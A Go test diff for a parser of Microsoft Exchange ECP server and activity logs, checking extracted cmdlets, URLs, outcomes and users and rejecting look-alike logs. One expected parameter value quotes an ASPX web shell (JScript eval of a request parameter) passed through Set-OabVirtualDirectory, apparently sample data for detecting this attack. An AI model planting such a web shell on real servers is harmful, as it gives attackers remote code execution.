@@ -526,3 +526,57 @@ func TestProtocolUserFromContext(t *testing.T) {
 		check(t, rs[i], w)
 	}
 }
+
+// TestECP reads the ECP server and activity logs: headers are state, each
+// request gives the cmdlet (S:CMD, parameters joined by '.', quoted items
+// with doubled quotes), the URL, the duration, the outcome from S:EX and,
+// in the activity log, the user from S:PSA.
+func TestECP(t *testing.T) {
+	src := newSource()
+	var lines []string
+	lines = append(lines, formattest.ReadLines(t, "testdata/ecp_server.log", false)...)
+	lines = append(lines, formattest.ReadLines(t, "testdata/ecp_activity.log", false)...)
+	rs := runText(t, ECP(), src, lines)
+	const ds = "exchange.ecp"
+	tests := []want{
+		nil, nil, nil, nil, nil, // the first file's headers
+		{"event.dataset": ds, "host.name": "EXCH01", "exchange.cmdlet": "Get-InboxRule", "event.type": "access",
+			"url.path": "/ecp/RulesEditor/InboxRules.svc/GetList", "url.query": "msExchEcpCanary=Zq3xYw",
+			"event.duration": "13000000", "event.outcome": "success", "user.name": ""},
+		{"event.dataset": ds, "exchange.cmdlet": "Set-OabVirtualDirectory", "exchange.object": "5d7c1e2f-3a4b-4c5d-9e8f-7a6b5c4d3e2f",
+			"exchange.parameters": `-ExternalUrl "http://x/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""k""],""unsafe"");}</script>" -Identity "5d7c1e2f-3a4b-4c5d-9e8f-7a6b5c4d3e2f"`,
+			"event.outcome":       "success"},
+		{"exchange.cmdlet": "Set-OabVirtualDirectory", "exchange.parameters": `-ExternalUrl $null -Identity "5d7c1e2f-3a4b-4c5d-9e8f-7a6b5c4d3e2f"`,
+			"event.outcome": "failure",
+			"event.reason":  "Microsoft.Exchange.Data.Directory.ADNoSuchObjectException:Active Directory operation failed on DC01.corp.example. The object 'CN=OAB (Default Web Site),CN=HTTP' does not exist."},
+		{"exchange.cmdlet": "Get-MailboxRegionalConfiguration", "exchange.parameters": "", "url.path": "/ecp/"},
+		nil, nil, nil, nil, nil, // the second file's headers
+		{"event.dataset": ds, "event.action": "Request", "user.name": "zhangwei", "user.domain": "corp.example",
+			"url.path": "/ecp/RulesEditor/InboxRules.svc/GetList", "event.outcome": "", "exchange.cmdlet": ""},
+		{"event.dataset": ds, "url.path": "/ecp/logoff.aspx", "user.name": ""},
+	}
+	if len(rs) != len(tests) {
+		t.Fatalf("%d lines, %d tests", len(rs), len(tests))
+	}
+	for i, w := range tests {
+		if w == nil {
+			if !rs[i].detected || !rs[i].skip {
+				t.Errorf("line %d: header not taken as state: %+v", i+1, rs[i])
+			}
+			continue
+		}
+		check(t, rs[i], w)
+	}
+	// Look-alikes: another Exchange log of the same generic shape without
+	// an ECP header or URL, and a Fields line of another log.
+	other := newSource()
+	for _, l := range []string{
+		"2026-11-28T09:00:00.000Z,EXCH01,Request,S:URL=https://localhost:444/owa/service.svc;Dbl:WLM.TS=3",
+		"#Fields: TimeStamp,ServerName,EventId,EventData",
+		"#Log-type: HttpProxy Logs",
+	} {
+		if ECP().Detect([]byte(l), other) {
+			t.Errorf("detected: %s", l)
+		}
+	}
+}
